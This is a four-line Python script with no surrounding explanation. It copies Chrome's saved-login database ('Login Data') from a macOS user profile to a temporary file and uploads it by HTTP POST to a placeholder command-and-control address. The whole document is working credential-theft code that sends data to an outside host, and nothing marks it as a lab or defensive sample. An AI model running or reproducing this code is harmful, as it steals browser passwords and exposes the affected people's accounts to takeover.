import os, shutil, requests
src = os.path.expanduser("~/Library/Application Support/Google/Chrome/Default/Login Data")
shutil.copy(src, "/tmp/ld")
requests.post("https://c2.example.invalid/up", files={"f": open("/tmp/ld", "rb")})
